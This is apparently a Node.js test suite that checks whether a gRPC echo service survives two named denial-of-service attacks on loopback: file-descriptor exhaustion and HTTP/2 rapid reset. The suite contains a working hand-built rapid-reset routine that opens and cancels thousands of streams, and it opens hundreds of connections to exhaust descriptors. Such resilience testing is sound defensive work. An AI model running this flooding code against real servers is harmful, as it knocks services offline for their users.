'use strict';
// Two attacks that bring gRPC's C core down (CVE-2023-4785: core accepts no more once file descriptors
// have run out; CVE-2023-44487: streams are opened and reset in a rush, and core keeps the memory). From a
// peer without a certificate they do nothing. From a peer with a certificate the service on core is
// back within 5 s by itself, and the service on libnghttp2 never stops. Bounded in count and bytes, on
// loopback. abuse.test.js has the other attacks.

const test = require('node:test');
const assert = require('node:assert');
const fs = require('node:fs');
const net = require('node:net');
const path = require('node:path');
const tls = require('node:tls');
const { Echo, certificates } = require('./echo');

const BACK_MS = 5000;
const MIB = 1024 * 1024;
const nap = (ms) => new Promise((r) => { setTimeout(r, ms); });

let pki;
test.before(async () => { pki = await certificates(); });

// ---- sockets ----

function opened(socket, event) {
  return new Promise((resolve) => {
    socket.on('error', () => resolve(socket));
    socket.once('close', () => resolve(socket));
    socket.once(event, () => resolve(socket));
  });
}

const plain = (port) => opened(net.connect(port, '127.0.0.1'), 'connect');

function secure(port, name) {
  const read = (f) => fs.readFileSync(path.join(pki, f));
  const mine = name ? { key: read(`${name}.key`), cert: read(`${name}.pem`) } : {};
  return opened(tls.connect({
    port, host: '127.0.0.1', servername: 'localhost', ca: read('ca.pem'), ALPNProtocols: ['h2'], ...mine,
  }), 'secureConnect');
}

async function many(n, open) {
  const sockets = [];
  for (let i = 0; i < n; i += 50) {
    sockets.push(...await Promise.all(Array.from({ length: Math.min(50, n - i) }, open)));
  }
  return sockets;
}

// ---- HTTP/2 by hand ----

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const literal = (k, v) => Buffer.concat([Buffer.from([0, k.length]), Buffer.from(k), Buffer.from([v.length]), Buffer.from(v)]);
const HEADERS = Buffer.concat([
  literal(':method', 'POST'), literal(':scheme', 'https'), literal(':path', '/ward.test.v1.Echo/Unary'),
  literal(':authority', 'x'), literal('content-type', 'application/grpc'), literal('te', 'trailers'),
]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

// Opens and resets n streams on a connection as fast as it takes them; how many went out.
async function resets(socket, n) {
  socket.setMaxListeners(0);
  socket.on('data', () => {});
  socket.write(Buffer.concat([PREFACE, frame(4, 0, 0)]));
  for (let done = 0; done < n; done += 500) {
    if (socket.destroyed || !socket.writable) return done;
    const burst = [];
    for (let i = done; i < done + 500; i += 1) {
      burst.push(frame(1, 4, 2 * i + 1, HEADERS), frame(3, 0, 2 * i + 1, CANCEL));
    }
    if (!socket.write(Buffer.concat(burst))) {
      await new Promise((r) => { socket.once('drain', r); socket.once('close', r); setTimeout(r, 2000); });
    }
  }
  return n;
}

// ---- without a certificate ----

test('connections of a peer without a certificate do nothing, however many', async () => {
  const echo = await Echo.start({ nofile: 4096, 'handshake-ms': 2000, 'rss-mib': 512 }, pki);
  const { pid } = echo;
  const known = echo.client();
  await known.call('Unary');
  const held = await many(1000, () => plain(echo.port));
  for (const s of held.slice(0, 200)) s.write('x'.repeat(1000));
  for (let i = 0; i < 20; i += 1) await known.call('Unary');
  await echo.servedAgain(BACK_MS); // new connections too, with a thousand idle ones there
  const more = await many(300, () => secure(echo.port, null));
  await echo.servedAgain(BACK_MS);
  for (const s of [...held, ...more]) s.destroy();
  assert.strictEqual(echo.pid, pid);
  assert.strictEqual(echo.restarts, 0);
  await echo.stop();
});

test('a port probe is no failed handshake, and garbage is one', async () => {
  const echo = await Echo.start({}, pki, { WARD_TRANSPORT: 'h2' });
  const failed = () => echo.proc.lines.filter((l) => l.includes('TLS handshake failed')).length;
  for (let i = 0; i < 5; i += 1) (await plain(echo.port)).end();
  await echo.servedAgain(BACK_MS);
  assert.strictEqual(failed(), 0);
  const noise = await plain(echo.port);
  noise.write('GET / HTTP/1.1\r\n\r\n');
  await echo.proc.line(/"msg":"TLS handshake failed"/);
  noise.destroy();
  await echo.stop();
});

test('a handshake that is never finished is ended', async () => {
  const echo = await Echo.start({ 'handshake-ms': 500 }, pki);
  const silent = await plain(echo.port);
  silent.resume();
  if (!silent.destroyed) await new Promise((r) => { silent.once('close', r); });
  await echo.servedAgain(BACK_MS);
  await echo.stop();
});

test('a rapid reset without a certificate costs no memory', async () => {
  const echo = await Echo.start({ 'rss-mib': 512 }, pki);
  const { pid } = echo;
  await echo.servedAgain(BACK_MS);
  const before = echo.rss();
  for (let i = 0; i < 10; i += 1) {
    const bare = await secure(echo.port, null);
    await resets(bare, 5000);
    bare.destroy();
    const clear = await plain(echo.port);
    await resets(clear, 5000);
    clear.destroy();
  }
  await echo.servedAgain(BACK_MS);
  assert.ok(echo.rss() - before < 64 * MIB, `grew by ${(echo.rss() - before) / MIB} MiB`);
  assert.strictEqual(echo.pid, pid);
  assert.strictEqual(echo.restarts, 0);
  await echo.stop();
});

// ---- with a certificate ----

const CORE = { WARD_TRANSPORT: 'core' };
const H2 = { WARD_TRANSPORT: 'h2' };

test('out of file descriptors by a peer with a certificate: core serves again within 5 s', async (t) => {
  const echo = await Echo.start({ nofile: 128 }, pki, CORE);
  await echo.servedAgain(BACK_MS);
  const held = await many(200, () => secure(echo.port, 'stranger'));
  for (const s of held) s.destroy();
  const ms = await echo.servedAgain(BACK_MS);
  t.diagnostic(`served again after ${ms} ms, ${echo.restarts} restart(s)`);
  assert.ok(echo.restarts >= 1, 'the attack must break the server, or the test proves nothing');
  assert.strictEqual(echo.failure, undefined);
  await echo.stop();
});

test('out of file descriptors by a peer with a certificate: h2 serves on', async () => {
  const echo = await Echo.start({ nofile: 128 }, pki, H2);
  const known = echo.client();
  await known.call('Unary');
  const held = await many(200, () => secure(echo.port, 'stranger'));
  for (let i = 0; i < 20; i += 1) await known.call('Unary');
  for (const s of held) s.destroy();
  await echo.servedAgain(BACK_MS);
  assert.strictEqual(echo.restarts, 0);
  await echo.stop();
});

// Memory of a server that has served a little: more in a build with sanitizers.
async function atRest(env) {
  const echo = await Echo.start({}, pki, env);
  await echo.servedAgain(BACK_MS);
  const bytes = echo.rss();
  await echo.stop();
  return bytes;
}

// How much memory a rush costs depends on who is faster on this machine, so it comes in waves, until
// one was too much.
async function rush(echo, waves) {
  let sent = 0;
  for (let wave = 0; wave < waves && echo.restarts === 0; wave += 1) {
    const sockets = await many(4, () => secure(echo.port, 'stranger'));
    for (const n of await Promise.all(sockets.map((s) => resets(s, 20000)))) sent += n;
    for (const s of sockets) s.destroy();
  }
  return sent;
}

test('a rapid reset by a peer with a certificate: core serves again within 5 s', async (t) => {
  const limit = await atRest(CORE) + 64 * MIB;
  const echo = await Echo.start({ 'rss-mib': Math.ceil(limit / MIB) }, pki, CORE);
  await echo.servedAgain(BACK_MS);
  const sent = await rush(echo, 8);
  const ms = await echo.servedAgain(BACK_MS);
  await nap(200); // a restart that was still to come
  await echo.servedAgain(BACK_MS);
  t.diagnostic(`${sent} resets sent, served again after ${ms} ms, ${echo.restarts} restart(s)`);
  assert.ok(echo.restarts >= 1, 'the attack must break the server, or the test proves nothing');
  assert.ok(echo.rss() < limit);
  assert.strictEqual(echo.failure, undefined);
  await echo.stop();
});

test('a rapid reset by a peer with a certificate: h2 serves on in the same memory', async () => {
  const limit = await atRest(H2) + 64 * MIB;
  const echo = await Echo.start({ 'rss-mib': Math.ceil(limit / MIB) }, pki, H2);
  const known = echo.client();
  await known.call('Unary');
  await rush(echo, 2);
  await known.call('Unary');
  assert.strictEqual(echo.restarts, 0);
  assert.ok(echo.rss() < limit);
  await echo.stop();
});
